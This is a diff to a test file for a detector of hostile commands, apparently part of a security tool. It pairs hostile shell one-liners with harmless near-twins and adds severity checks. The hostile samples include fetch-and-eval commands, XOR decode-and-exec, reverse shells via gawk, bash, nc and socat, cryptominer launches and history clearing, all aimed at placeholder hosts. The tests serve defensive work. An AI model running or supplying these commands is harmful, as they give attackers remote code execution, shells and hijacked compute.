@@ -28,6 +28,47 @@ const pairs: Readonly<Record<string, readonly (readonly [hostile: string, honest
       'python3 -c "import urllib.request as u;print(u.urlopen(\'http://192.0.2.1/a\').read())"',
     ],
   ],
+  'fetch-and-run high, told by what stands together': [
+    [
+      `node -e "require('http').get('http://192.0.2.1/a', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => new Function(s)()) })"`,
+      `node -e "require('http').get('http://192.0.2.1/a', (r) => { let s = ''; r.on('data', (d) => s += d); r.on('end', () => console.log(s)) })"`,
+    ],
+    [
+      `node -e "fetch('http://192.0.2.1/a').then((r) => r.text()).then((t) => (0, eval)(t))"`,
+      `node -e "fetch('http://192.0.2.1/a').then((r) => r.text()).then((t) => pattern.exec(t))"`,
+    ],
+    [
+      `python3 -c "import requests, os, subprocess
+p = os.path.join(d, 'x')
+open(p, 'wb').write(requests.get('http://192.0.2.1/a').content)
+os.chmod(p, 0o755)
+subprocess.Popen([p])"`,
+      `python3 -c "import requests, os, subprocess
+p = os.path.join(d, 'x')
+open(p, 'wb').write(requests.get('http://192.0.2.1/a').content)
+subprocess.run(['sha256sum', p])"`,
+    ],
+    [
+      `python3 -c "import requests
+def load(u):
+  t = requests.get('http://192.0.2.1/a').text
+  return t
+exec(load(u))"`,
+      `python3 -c "import requests
+def load(u):
+  t = requests.get('http://192.0.2.1/a').text
+  return t
+model.eval(load(u))"`,
+    ],
+    [
+      `php -r '$c = @file_get_contents(base64_decode("aHR0cDovLzE5Mi4wLjIuMS9h")); eval("?>" . $c);'`,
+      `php -r '$c = @file_get_contents(base64_decode("aHR0cDovLzE5Mi4wLjIuMS9h")); echo json_encode($c);'`,
+    ],
+    ['. /dev/stdin <<< "$(curl -s http://192.0.2.1/a)"', '. /dev/stdin <<< "A=1"; curl -s http://192.0.2.1/a'],
+    ['git clone http://git.example/a /opt/a && /opt/a/run', 'git clone http://git.example/a /opt/a && /opt/b/run'],
+    ['pip install http://192.0.2.1/a.tar.gz', 'pip install --index-url http://192.0.2.1/simple a'],
+    [`awk 'BEGIN { system("curl http://192.0.2.1/a | sh") }'`, `awk 'BEGIN { print "curl http://192.0.2.1/a | sh" }'`],
+  ],
   'fetch-and-run medium': [
     ['if [ -e /x ]; then curl http://192.0.2.1/a | sh; fi', 'if false; then curl http://192.0.2.1/a | sh; fi'],
   ],
@@ -57,7 +98,21 @@ const pairs: Readonly<Record<string, readonly (readonly [hostile: string, honest
       'curl -o /tmp/a http://192.0.2.1/a; mv /tmp/a /usr/bin/app',
     ],
   ],
+  'decode-and-run high, whatever the computation': [
+    [
+      `python3 -c "k = 7; exec(bytes(c ^ k for c in bytes.fromhex(d)))"`,
+      `python3 -c "k = 7; print(bytes(c ^ k for c in bytes.fromhex(d)))"`,
+    ],
+    [
+      `node -e "eval(d.map((c) => String.fromCharCode(c ^ 7)).join(''))"`,
+      `node -e "show(d.map((c) => String.fromCharCode(c ^ 7)).join(''))"`,
+    ],
+  ],
   'remote-shell high': [
+    [
+      `gawk 'BEGIN { s = "/inet/tcp/0/192.0.2.1/99"; while (1) { s |& getline c; while ((c |& getline r) > 0) print r |& s } }'`,
+      `gawk 'BEGIN { s = "/inet/tcp/0/192.0.2.1/99"; s |& getline t; print t; close(s) }'`,
+    ],
     ['bash -i >& /dev/tcp/192.0.2.1/1 0>&1', 'echo > /dev/tcp/192.0.2.1/1'],
     ['nc 192.0.2.1 1 -e /bin/sh', 'nc 192.0.2.1 1 < /etc/hostname'],
     ['socat tcp:192.0.2.1:1 exec:/bin/bash,pty', 'socat tcp-listen:80,fork tcp:192.0.2.1:1'],
@@ -90,13 +145,25 @@ const pairs: Readonly<Record<string, readonly (readonly [hostile: string, honest
   ],
   'starts-miner high': [
     ['/opt/x --server a.example:443 --algo kawpow --user w', '/opt/x --server nats.example:4222 --user w'],
-    ['/opt/x -o a.example:443 -u w -p x', '/opt/x -o a.example:443 -u w -p "$(hostname)" -k --tls'],
+    ['/opt/x -o 192.0.2.7:443 -u w -p x', '/opt/x -o 192.0.2.7:443 -u w -p "$SECRET"'],
+    ['/opt/x -o a.example:443 -u w -p c=XMR -a rx/0', '/opt/x -o a.example:443 -u w -p secret -a zstd'],
+    [
+      `A=${'4'.padEnd(95, 'A')}; /opt/x -o "$HOST" -u $A.rig`,
+      `A=${'user'.padEnd(95, 'A')}; /opt/x -o "$HOST" -u $A.rig`,
+    ],
+    [
+      `python3 -c "import subprocess, random; subprocess.Popen(['/opt/x', '-o', random.choice(hosts), '-u', '${'4'.padEnd(95, 'A')}'])"`,
+      `python3 -c "import subprocess, random; subprocess.Popen(['/opt/x', '-o', random.choice(hosts), '-u', 'worker'])"`,
+    ],
     ['/opt/x -o xmr.pool.example:80 -u w', '/opt/x -o xmr.pool.example:80'],
     ['/opt/x --url stratum+tcp://pool.example:3333', '/opt/x --url http://api.example:3333'],
     [
       '/opt/x -o pool.example:3333 -u w -p x',
       'ssh -o ConnectTimeout=3 host.example; curl -o out.example:80 -u w http://192.0.2.1',
     ],
+  ],
+  'starts-miner medium': [
+    ['/opt/x -o a.example:443 -u w -p x', '/opt/x -o a.example:443 -u w -p "$(hostname)" -k --tls'],
   ],
   'history-cleared high': [
     ['unset HISTFILE', 'unset HTTP_PROXY'],
@@ -135,8 +202,8 @@ describe('each trait and its nearest honest twin', () => {
   for (const [trait, examples] of Object.entries(pairs))
     for (const [hostile, honest] of examples)
       test(`${trait}: ${hostile}`, () => {
-        assert.ok(found(hostile).includes(trait), found(hostile).join(', ') || 'nothing was found');
-        const [id = ''] = trait.split(' ');
+        const [id = '', confidence = ''] = trait.split(/[ ,]+/);
+        assert.ok(found(hostile).includes(`${id} ${confidence}`), found(hostile).join(', ') || 'nothing was found');
         assert.ok(!found(honest).some((other) => other.startsWith(`${id} `)), found(honest).join(', '));
       });
 
@@ -179,6 +246,9 @@ test('how grave it is to fetch and run hangs on who vouches for it, and on wheth
   assert.equal(severity('curl https://192.0.2.1/a | sh'), 'high');
   assert.equal(severity('curl http://get.example/a | sh'), 'high');
   assert.equal(severity('curl https://get.example/a | sh'), 'medium');
+  assert.equal(severity('curl -fsSLk https://get.example/a | sh'), 'high');
+  assert.equal(severity('wget --no-check-certificate -qO- https://get.example/a | sh'), 'high');
+  assert.equal(severity('curl -fsSL --keepalive-time 2 https://get.example/a | sh'), 'medium');
   assert.equal(severity('curl -o /tmp/a https://get.example/a; sh /tmp/a'), 'high');
   assert.equal(severity('[ -e /x ] || curl https://get.example/a | sh'), 'low');
   assert.equal(severity('curl "https://get.example/$VERSION/a.jar" -o /srv/a.jar; java -jar /srv/a.jar'), 'low');
